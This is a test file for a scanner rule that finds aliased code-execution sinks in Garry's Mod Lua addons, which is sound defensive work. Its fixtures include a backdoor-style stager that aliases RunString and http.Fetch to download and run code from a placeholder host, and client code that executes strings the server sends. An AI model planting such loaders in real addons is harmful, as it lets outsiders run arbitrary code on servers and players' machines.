// Valid and invalid cases of the `sink_alias` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './sink_alias.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('sink_alias', () => {
  it('local aliases forming a stager', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local rs, fetch = RunString, http.Fetch\nfetch("https://a.invalid/u.lua", function(body) rs(body) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('client code running what the server sends through an alias', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'local compile = CompileString\nnet.Receive("x", function() local f = compile(net.ReadString(), "x") f() end)',
    });
    expect(findings.length).toBeGreaterThan(0);
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('performance localisation', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'local pairs, ipairs, draw = pairs, ipairs, draw\nfor k, v in pairs({}) do end',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
